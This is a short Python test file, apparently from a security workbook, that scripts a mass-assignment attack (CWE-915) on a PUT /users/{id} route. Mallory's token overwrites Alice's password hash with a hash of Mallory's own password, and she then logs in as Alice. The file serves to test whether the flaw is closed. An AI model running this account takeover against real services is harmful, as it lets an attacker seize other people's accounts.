"""Mallory makes a hash of a password that she knows, and puts it into Alice's row.

It works where any good token may change any account, and any field of the body goes into the row.
Alice's id is no secret: it stands in every token that she ever sent.
"""

from passlib.hash import bcrypt

from workbook.attacking import Api, NoSuchRoute, attack


@attack(
    "Log in as somebody else with a hash of one's own",
    route="PUT /users/{id}",
    closes=8,
    see="CWE-915",
    catches="AZ-02 AZ-06",
)
def take_over_an_account(api: Api) -> str | None:
    if api.put("/users/nobody", json={}, caller="mallory").status in (404, 405):
        raise NoSuchRoute("PUT /users/{id}")
    alice, mallory = api.alice, api.mallory
    hers = bcrypt.using(rounds=4).hash(mallory.password)
    body = {"full_name": alice.full_name, "email": alice.email, "password_hash": hers}
    path = f"/users/{alice.id}"
    api.put(path, json=body, token=mallory.token, caller=mallory.username)
    login = {"username": alice.username, "password": mallory.password}
    seen = api.post("/login", json=login, caller=mallory.username)
    return "a token of Alice's, for Mallory's password" if seen.status == 200 else None
